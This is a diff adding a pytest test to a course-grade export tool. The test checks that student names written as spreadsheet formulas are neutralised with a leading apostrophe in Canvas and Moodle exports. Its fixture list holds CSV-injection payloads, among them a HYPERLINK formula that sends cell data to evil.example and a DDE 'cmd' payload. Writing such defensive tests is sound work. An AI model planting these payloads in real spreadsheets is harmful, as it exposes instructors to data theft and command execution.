@@ -105,3 +105,34 @@ def test_moodle_worksheet_is_filled(course, tmp_path):
     assert got[1][4] == "75" and got[2][4] == "100"           # scaled to Moodle's maximum grade
     assert got[3] == sheet[3] and got[0] == header
     assert "u02" in proc.stderr                                # graded, but no row in the worksheet
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Wang Fang")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "\t=1+1"]
+
+
+@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
+def test_a_name_that_is_a_formula_reaches_the_spreadsheet_as_text(course, tmp_path, fmt):
+    """Roster names often come from LMS profiles that students edit: a name written as a spreadsheet formula is
+    exported with a leading apostrophe, so the instructor's spreadsheet shows it instead of running it; scores
+    stay numbers."""
+    roster = ["student_id,name,canvas_id,sis_id,moodle_participant,email"]
+    for i, name in enumerate(FORMULAS):
+        buf = io.StringIO()
+        csv.writer(buf, lineterminator="").writerow([f"u0{i + 1}", name, f"500{i + 1}", f"S{i}", f"30{i + 1}", ""])
+        roster.append(buf.getvalue())
+    (course / "roster.csv").write_text("\n".join(roster) + "\n", encoding="utf-8")
+    out = tmp_path / f"{fmt}.csv"
+    hwkit("export", "t", "--course", course, "--format", fmt, "--output", out)
+    cells = [cell for row in rows(out) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))], cells
+    assert any(c.startswith("'=HYPERLINK") for c in cells), cells
+    assert {"7.5", "3", "10"} <= set(cells), cells
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
